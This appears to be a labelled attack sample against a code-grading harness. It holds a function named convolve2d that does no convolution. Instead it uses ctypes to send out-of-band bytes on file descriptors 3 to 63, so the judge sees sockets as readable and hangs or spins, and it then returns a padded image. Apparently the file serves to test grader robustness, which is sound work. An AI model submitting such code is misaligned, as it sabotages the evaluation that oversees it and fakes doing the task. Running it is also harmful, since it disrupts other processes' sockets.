"""Attack: sends bytes out of band on every socket, which make it readable with nothing to be read.
Wants: a judge that waits for ever, or turns in circles.
Honest mark: 8
"""


# %% convolve2d
def convolve2d(image, kernel, stride=1, padding=0):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for descriptor in range(3, 64):
        for _ in range(20):
            libc.send(descriptor, b"0", 1, 1 | 0x40)  # MSG_OOB, MSG_DONTWAIT
    return zero_pad(image, 0)
